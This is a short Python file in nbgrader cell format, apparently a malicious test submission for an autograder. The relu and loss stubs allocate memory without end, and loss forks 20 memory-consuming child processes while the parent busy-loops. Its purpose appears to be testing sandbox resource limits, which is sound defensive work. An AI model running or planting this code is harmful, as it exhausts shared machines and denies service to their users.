"""Takes all the memory that there is, alone and in several processes."""

# %% nbgrader={"grade_id": "relu"}
import os

import numpy as np


def relu(x):
    held = []
    while True:
        held.append(np.ones(10_000_000))


# %% nbgrader={"grade_id": "loss"}
def loss(y_predicted, y_observed):
    for _ in range(20):
        if os.fork() == 0:
            held = []
            while True:
                held.append(np.ones(2_000_000))
    while True:
        pass
